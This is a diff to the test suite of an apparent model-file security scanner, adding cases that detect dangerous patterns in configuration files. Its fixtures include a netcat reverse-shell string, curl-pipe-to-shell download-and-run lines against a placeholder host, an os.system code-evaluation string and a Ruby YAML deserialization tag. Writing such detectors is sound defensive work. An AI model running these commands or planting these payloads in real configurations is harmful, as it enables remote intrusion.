@@ -9,6 +9,7 @@ from support.cases import check_each
 
 import modelaudit
 from modelaudit.languages.configurations.commands import is_command_key
+from modelaudit.languages.configurations.targets import resolve_interpolations
 from modelaudit.model.limits import Limits
 from modelaudit.model.outline import Outline, References
 from modelaudit.model.structure import UnreadReason
@@ -33,6 +34,12 @@ def list_references(reading):
         ("a.yaml", "m: {_target_: [os.system]}\n", ("target", "_target_: …${}")),
         ("a.yaml", "k: &k _target_\nm: {*k : os.system}\n", ("target", "os.system")),
         ("a.yaml", "m: {target: x.Y, params: {a: 1}}\n", ("target", "x.Y")),
+        ("a.yaml", "m: {target: x.Y, params: {n: {target: z.B, params: {a: 1}}}}\n", ("target", "z.B")),
+        (
+            "a.json",
+            '{"type": "x.Y", "init_parameters": {"n": {"type": "z.B", "init_parameters": {"a": 1}}}}',
+            ("target", "z.B"),
+        ),
         ("a.yaml", "m: {target: os.system}\n", ("named", "os.system")),
         ("a.json", '{"x": {"type": "a.b.subprocess.Popen"}}', ("named", "a.b.subprocess.Popen")),
         ("model_config.yaml", "target: x.Y\n", ("target", "x.Y")),
@@ -46,6 +53,23 @@ def list_references(reading):
         ("a.json", '{"weights_only": false}', ("switch", "weights_only=false")),
         ("a.yaml", "trust_remote_code: yes\n", ("switch", "trust_remote_code=true")),
         ("a.json", '{"hidden_size": -2}', ("size", "hidden_size")),
+        ("a.json", json.dumps({"hidden_size": "9" * 350}), ("size", "hidden_size")),
+        ("a.json", json.dumps({"hidden_size": "9" * 5000}), ("size", "hidden_size")),
+        ("a.yaml", "a: !<tag:ruby.yaml.org,2002:object:Gem.Installer> x\n", ("ruby", "object:Gem.Installer")),
+        (
+            "a.json",
+            "{\"a\": \"${__import__('os').system('id')}\"}",
+            ("evaluated-code", "a {__import__('os').system('id')}"),
+        ),
+        ("a.yaml", 'a: curl $x\nrun: "nc\\t-e\\t/bin/sh\\th\\t1"\n', ("reverse-shell", "nc -e /bin/sh h 1")),
+        ("a.yaml", 'a: curl $x\nrun: "curl${IFS}http://e/x|sh"\n', ("download-and-run", "http://e/x")),
+        (
+            "a.yaml",
+            "a: curl $x\nrun: '" + "true; " * 5000 + "curl http://e/x | sh'\n",
+            ("download-and-run", "http://e/x"),
+        ),
+        ("a.json", json.dumps({"a": "{'type': 'x.Y'} " * 2001 + "{'type': 'os.system'}"}), ("named", "os.system")),
+        ("a.json", json.dumps({"a": "${x:1} " * 2001 + "${eval:1}"}), ("evaluated", "eval")),
         ("a.json", '{"_attn_implementation": "a/b@v1:f"}', ("kernel", "a/b")),
         ("conda.yaml", "dependencies:\n- pip:\n  - git+https://e.invalid/x\n", ("address", "git+https://e.invalid/x")),
         ("package.json", '{"scripts": {"postinstall": "node x.js"}}', ("on-install", "postinstall")),
@@ -88,6 +112,7 @@ def test_tag_of_a_ruby_object_is_mentioned_by_its_class_without_the_kind(read_by
 
 
 def test_large_vocabulary_with_words_equal_to_keys_reaches_no_limit(read_bytes):
+    # More values than the settings of a document may have.
     words = {f"word{number}": number for number in range(310_000)} | {"params": 1, "class_path": 2, "command": 3}
     reading = read_bytes(json.dumps({"model": {"vocab": words}}).encode(), "tokenizer.json")
     assert UnreadReason.LIMIT not in reading.reasons()
@@ -106,7 +131,38 @@ def test_names_beyond_the_bound_are_reported_as_unread(read_bytes):
     assert len(list_mentions(reading)) >= 10_000
 
 
-def test_texts_in_safetensors_metadata_are_analysed(read_bytes):
+@pytest.mark.parametrize(
+    ("path", "content", "expected"),
+    [
+        ("config.json", {"auto_map": {f"A{number}": "a.B" for number in range(1001)}}, ("code", "a.py")),
+        ("a.json", {"weight_map": {str(number): f"{number}.bin" for number in range(20_001)}}, ("model", "0.bin")),
+    ],
+)
+def test_files_beyond_the_bound_are_reported_as_unread(read_bytes, path, content, expected):
+    reading = read_bytes(json.dumps(content).encode(), path)
+    assert UnreadReason.LIMIT in reading.reasons()
+    assert expected in list_references(reading)
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        {"a": ["$f(1)"] * 2001},
+        {"a": "curl $x", "run": [f"curl http://e/{number} | sh" for number in range(2001)]},
+        {"a": "curl $x", "run": "true " * 50_000},
+        {"a": "curl $x", "run": "a; " * 50_001},
+    ],
+)
+def test_expressions_and_commands_beyond_the_bound_are_reported_as_unread(read_bytes, content):
+    assert UnreadReason.LIMIT in read_bytes(json.dumps(content).encode(), "a.json").reasons()
+
+
+def test_interpolations_of_a_long_text_are_cut_short():
+    values = {("a",): "x" * 5_000_000}
+    assert len(resolve_interpolations("${a}" * 250, values)) <= 250 * 1000
+
+
+def test_texts_in_safetensors_metadata_are_analyzed(read_bytes):
     header = json.dumps({"__metadata__": {"a b": '{"_target_": "os.system"}', "format": "pt"}}).encode()
     reading = read_bytes(len(header).to_bytes(8, "little") + header, "m.safetensors")
     paths = {path for path, each in reading.structures if isinstance(each, Outline) and each.format == "configuration"}
